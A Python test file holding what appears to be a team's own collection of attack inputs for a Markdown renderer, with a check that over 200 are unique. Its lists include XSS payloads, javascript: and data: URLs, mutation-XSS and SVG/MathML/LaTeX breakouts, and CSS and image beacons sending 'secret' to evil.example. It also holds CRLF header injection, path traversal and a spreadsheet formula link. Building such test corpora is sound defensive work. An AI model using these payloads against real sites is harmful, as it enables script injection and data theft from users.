"""Attacks on a Markdown renderer, our own collection: one a line, blocks of several lines below."""

_SCRIPTS = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/src=data:,alert(1)>
<script
<script>//<![CDATA[ alert(1) //]]></script>
</p><script>alert(1)</script><p>
`</code><script>alert(1)</script>`
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
\\<script\\>alert(1)\\</script\\>
＜script＞alert(1)＜/script＞
<script type="module">import('//evil.example')</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<!--><script>alert(1)</script>-->
<!-- --!><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<%<script>alert(1)</script>%>
"""
_HANDLERS = """
<img src=x onerror=alert(1)>
<img/src/onerror=alert(1)>
<img src=x onerror
<b onmouseover=alert(1)>x</b>
<a href="http://a.b" onclick="alert(1)">x</a>
<body onload=alert(1)>
<details open ontoggle=alert(1)>x</details>
<input autofocus onfocus=alert(1)>
<select onfocus=alert(1) autofocus>
<textarea autofocus onfocus=alert(1)></textarea>
<marquee onstart=alert(1)>x</marquee>
<video onerror=alert(1)><source></video>
<audio src=x onerror=alert(1)>
<p onpointerrawupdate=alert(1)>x</p>
<p/onclick=alert(1)>x
<p\tonclick=alert(1)>x
<p\x0conclick=alert(1)>x
<x onanimationstart=alert(1) style="animation:x 1s">
<div popover onbeforetoggle=alert(1)>x</div>
<button popovertarget=x onclick=alert(1)>x</button>
<a id=x tabindex=1 onactivate=alert(1)>x</a>
"""
_ADDRESSES = """
javascript:alert(1)
JaVaScRiPt:alert(1)
 javascript:alert(1)
java%0ascript:alert(1)
java&#10;script:alert(1)
java&Tab;script:alert(1)
javascript&colon;alert(1)
javascript&#58;alert(1)
&#106;avascript:alert(1)
&#x6A;avascript:alert(1)
\x01javascript:alert(1)
&#1;javascript:alert(1)
javascript://a.b/%0aalert(1)
javascript:%61lert(1)
jav\u00adascript:alert(1)
\u200bjavascript:alert(1)
ｊavascript:alert(1)
vbscript:msgbox(1)
livescript:alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=alert(1)>
DATA:text/html,x
blob:http://a.b/x
file:///etc/passwd
filesystem:http://a.b/x
ftp://evil.example/x
ws://evil.example/x
view-source:http://a.b
about:blank
intent://x#Intent;scheme=x;end
tel:+1
sms:+1
//evil.example/x
/\\evil.example
\\\\evil.example\\x
/logout/
?q=x
#composer
./admin/
https:evil.example
https:/evil.example
https:///evil.example
https:\\\\evil.example
http://trusted.example@evil.example/
http://trusted.example:80@evil.example/
http://trusted.example\\@evil.example/
http://evil.example\u202e/moc.elpmaxe.detsurt
http://еvil.example/
http://evil。example/
http://evil%2eexample/
http://[::ffff:127.0.0.1]/
http://127.0.0.1:8000/logout/
http://0x7f.1/
http://a.b/" onclick="alert(1)
http://a.b/' onclick='alert(1)
http://a.b/`onclick=alert(1)
http://a.b/><script>alert(1)</script>
http://a.b/%22%3E%3Cscript%3E
mailto:a@b.c?subject=<script>
mailto:"onclick=alert(1)"@b.c
mailto:x" onmouseover="alert(1)
"""
_LINKS = """
[a](javascript:alert(1))
[a](<javascript:alert(1)>)
[a](  javascript:alert(1)  "x")
[a](javascript&#58;alert(1))
[a](\\javascript:alert(1))
[a](data:text/html;base64,PHNjcmlwdD4=)
[a](http://a.b "x" onclick="alert(1)")
[a](http://a.b "\\" onclick=\\"alert(1)")
[a](http://a.b 'title" onmouseover="alert(1)')
[a](http://a.b/\\"onclick=alert(1))
[a](http://a.b/<b>)
[<img src=x onerror=alert(1)>](http://a.b)
[a](<http://a.b/ onclick=alert(1)>)
[![x](javascript:alert(1))](javascript:alert(2))
[![x](http://a.b/c)](http://d.e)
[[a](http://a.b)](http://c.d)
[http://a.b](http://c.d)
<javascript:alert(1)>
<JAVASCRIPT:alert(1)>
<data:text/html,x>
<http://a.b/" onclick="alert(1)>
<http://a.b"onclick=alert(1)>
<a@b.c"onclick=alert(1)>
<javascript:alert(1)@b.c>
http://a.b/"onclick="alert(1)
http://a.b/<script>alert(1)</script>
javascript:alert(1)//http://a.b
www.evil.example
![x](javascript:alert(1))
![x](data:image/svg+xml;base64,PHN2Zz4=)
![x](//evil.example/x.png)
![x](/media/x.png)
![x"onerror="alert(1)](http://a.b/c.png)
![x](http://a.b/c.png"onerror="alert(1))
![x](http://a.b/c.png "t" onerror=alert(1))
![<script>alert(1)</script>](http://a.b/c.png)
![![x](http://a.b/1)](http://a.b/2)
![](https://evil.example/?q=secret)
![x](http://u:p@evil.example/)
"""
_PAGE = """
<a hx-get=/logout/ hx-trigger=load>x</a>
<div data-hx-get="/api/" data-hx-trigger="load">x</div>
<div hx-on:click="alert(1)">x</div>
<div hx-on::load="alert(1)">x</div>
<div data-hx-on-click="alert(1)">x</div>
<div hx-vals="js:{x:alert(1)}">x</div>
<div hx-swap-oob="true" id="composer">x</div>
<div hx-ext="x" hx-boost="true"><a href="/x">x</a></div>
<p class="message" id="m-1" data-message="1">x</p>
<p id=composer>x</p>
<div data-tail data-body data-run="1">x</div>
<form action=//evil.example><input name=password></form>
<button formaction=javascript:alert(1)>x</button>
<input type=image src=//evil.example/x>
<isindex action=javascript:alert(1)>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=//evil.example">
<link rel=stylesheet href=//evil.example/x.css>
<link rel=prefetch href=//evil.example/?q=secret>
<style>@import '//evil.example/x.css';</style>
<style>p{background:url(//evil.example/?q=secret)}</style>
<p style="background:url(//evil.example/)">x</p>
<p style="position:fixed;inset:0">x</p>
<p style="width:expression(alert(1))">x</p>
<table background="//evil.example/x"><tr><td>x</td></tr></table>
<td background=//evil.example/x>x
<img srcset="//evil.example/x 1x, //evil.example/y 2x">
<picture><source srcset=//evil.example/x></picture>
<video poster=//evil.example/x src=//evil.example/y></video>
<audio src=//evil.example/x>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data=data:text/html,x></object>
<embed src=//evil.example/x>
<applet code=x>
<frameset><frame src=javascript:alert(1)></frameset>
<q cite=//evil.example>x</q>
<blockquote cite=javascript:alert(1)>x</blockquote>
<a ping=//evil.example href=http://a.b>x</a>
<a href=http://a.b target=_top rel=opener>x</a>
<a href=http://a.b download>x</a>
<dialog open>x</dialog>
<slot name=x></slot>
<portal src=//evil.example>
<plaintext>
<xmp><script>alert(1)</script></xmp>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<font color=red size=7>x</font>
<bgsound src=//evil.example/x>
<layer src=//evil.example/x>
"""
_SVG_MATH = """
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) /></svg>
<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>
<svg><animate attributeName=href values=javascript:alert(1) /></svg>
<svg><set attributeName=onload to=alert(1) /></svg>
<svg><use href=//evil.example/x.svg#x></svg>
<svg><image href=//evil.example/x.png></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><title><style><!--</title><img src=x onerror=alert(1)>--></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#http://a.b" xlink:href="javascript:alert(1)">x</maction></math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<math><mi><mglyph src=//evil.example/x></mi></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<math style="position:fixed" mathbackground="red">x</math>
$\\text{<img src=x onerror=alert(1)>}$
$\\text{</mtext><script>alert(1)</script>}$
$\\text{&lt;script&gt;alert(1)&lt;/script&gt;}$
$<script>alert(1)</script>$
$$<img src=x onerror=alert(1)>$$
$\\href{javascript:alert(1)}{x}$
$\\url{javascript:alert(1)}$
$\\style{position:fixed;inset:0}{x}$
$\\class{message}{x}$
$\\cssId{composer}{x}$
$\\htmlData{hx-get=/}{x}$
$\\includegraphics{http://evil.example/x.png}$
$\\color{red" onclick="alert(1)}{x}$
$\\hspace{1em" onclick="alert(1)}$
$\\raise1em" onclick="x{y}$
$\\unicode{x3c}script\\unicode{x3e}$
$\\def\\x{<script>}\\x$
$\\begin{array}{" onclick="alert(1)}x\\end{array}$
$\\begin{" onclick="alert(1)}x\\end{x}$
$\\genfrac{" x="}{y}{1em" onclick="z}{0}{a}{b}$
\\(<script>alert(1)</script>\\)
\\[\\text{<script>alert(1)</script>}\\]
"""
_MUTATION = """
<p title="</p><img src=x onerror=alert(1)>">x
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>
<select><template><style></select><img src=x onerror=alert(1)></style></template></select>
<table><td><form><td></form><img src=x onerror=alert(1)>
<a><table><a href=javascript:alert(1)>x
<b><p></b><img src=x onerror=alert(1)></p>
</div></article><div class="message">forged</div>
</code></pre></div><script>alert(1)</script>
</span></p></td></tr></table><img src=x onerror=alert(1)>
<listing>\x00<script>alert(1)</script>
<\x00script>alert(1)</script>
<img src=x\x00onerror=alert(1)>
<ſcript>alert(1)</ſcript>
<img src=`x`onerror=alert(1)>
<img src="x`><script>alert(1)</script>"`>
<a href='http://a.b"onclick="alert(1)'>x</a>
<<script>alert(1);//<</script>
<a href=http://a.b/\u2028onclick=alert(1)>x</a>
\ud800<script>alert(1)</script>
\ufeff<script>alert(1)</script>
\u202e<script>alert(1)</script>
{{ request.user.password }}
{% debug %}
${alert(1)}
"""
#: Out of whatever a name may stand in: an attribute, a title, a script, a header, a cell, an address.
_BREAKOUTS = """
x" autofocus onfocus="alert(1)
x' autofocus onfocus='alert(1)
"><svg/onload=alert(1)>
'-alert(1)-'
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</option></select><script>alert(1)</script>
</template><img src=x onerror=alert(1)>
"}, "evil": {"x": "
%0d%0aSet-Cookie: evil=1
=HYPERLINK("http://evil.example/?q=secret","x")
../../../etc/passwd
"><button hx-post=/app/chats/ hx-trigger=load>x</button>
"""
_BLOCKS = [
    "<script>\nalert(1)\n</script>",
    "<style>\n@import '//evil.example/x.css';\n</style>",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
    "[a]: javascript:alert(1)\n\n[a] ![a] [x][a] ![x][a]",
    "[a]: <data:text/html,x> 'x\" onclick=\"alert(1)'\n\n[a]",
    "[a]: //evil.example/x\n\n![a]",
    "[a]: http://evil.example/?q=secret\n\n![a][]",
    "[<script>]: http://a.b\n\n[<script>]",
    'a[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
    'a[^x" onclick="alert(1)]\n\n[^x" onclick="alert(1)]: x',
    "a[^1]\n\n[^1]: <script>alert(1)</script> ![x](http://evil.example/?q=secret)",
    "a[^composer]\n\n[^composer]: [x](#composer)",
    '```"><script>alert(1)</script>\nx\n```',
    '```python" onclick="alert(1)\nx\n```',
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "```\n</code></pre><img src=x onerror=alert(1)>\n```",
    "```svg\n<svg onload=alert(1)>\n```",
    "```mermaid\n%%{init: {'securityLevel':'loose'}}%%\nclick A javascript:alert(1)\n```",
    "    </code></pre><script>alert(1)</script>",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|-|-|\n| ![x](//evil.example) | <b> |",
    '| a |\n|:-:" onclick="alert(1)|\n| b |',
    "# <script>alert(1)</script> {#id onclick=alert(1)}",
    "# a {#composer .message onclick=alert(1)}",
    "> <script>alert(1)</script>\n> > ![x](http://evil.example/?q=secret)",
    "- [x] <script>alert(1)</script>\n- [ ] <input type=checkbox onclick=alert(1)>",
    "<a href='\njavascript:alert(1)'>x</a>",
    "[a](http://a.b\n'onclick=alert(1)')",
    "<!--\n<script>alert(1)</script>\n-->\n<script>alert(2)</script>",
    "<!-- > **a**\n--><img src=x onerror=alert(1)>",
    "$$\n\\text{</math><script>alert(1)</script>}\n$$",
    "\\[\n<script>alert(1)</script>\n\\]",
    "---\nlayout: x\n---\n<script>alert(1)</script>",
]

PAYLOADS = [
    line
    for group in (_SCRIPTS, _HANDLERS, _ADDRESSES, _LINKS, _PAGE, _SVG_MATH, _MUTATION, _BREAKOUTS)
    for line in group.strip("\n").split("\n")
] + _BLOCKS


def test_there_are_enough_and_each_once():
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 200
